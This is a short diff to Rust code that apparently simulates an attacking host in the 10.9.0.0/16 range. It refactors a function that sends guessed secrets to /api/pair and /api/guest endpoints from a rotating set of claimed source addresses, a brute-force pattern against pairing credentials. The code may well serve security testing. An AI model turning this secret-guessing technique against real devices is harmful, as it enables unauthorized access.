@@ -10,7 +10,7 @@ use std::time::{Duration, Instant};
 
 use socket2::{Domain, Protocol, Socket, Type};
 
-use crate::http::exchange_from;
+use crate::http::{exchange_from, written};
 
 /// Addresses that the attacking host claims: 10.9.0.0/16.
 pub const CLAIMED: &str = "10.9.0.0/16";
@@ -215,11 +215,9 @@ fn guess(n: u32, to: SocketAddr) -> Option<u16> {
         2 => ("/api/pair", format!(r#"{{"secret":"{n:022}","password":"an owner's"}}"#)),
         _ => ("/api/guest", format!(r#"{{"secret":"{n:022}"}}"#)),
     };
-    let length = body.len();
-    let text = format!(
-        "POST {path} HTTP/1.1\r\nHost: {to}\r\nOrigin: http://{to}\r\nContent-Type: application/json\r\n\
-         Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
-    );
+    let origin = format!("http://{to}");
+    let headers = [("Origin", &*origin), ("Content-Type", "application/json")];
+    let text = written(to, "POST", path, &headers, &body);
     Some(exchange_from(claimed(n + 1).into(), to, &text).ok()?.code)
 }
 
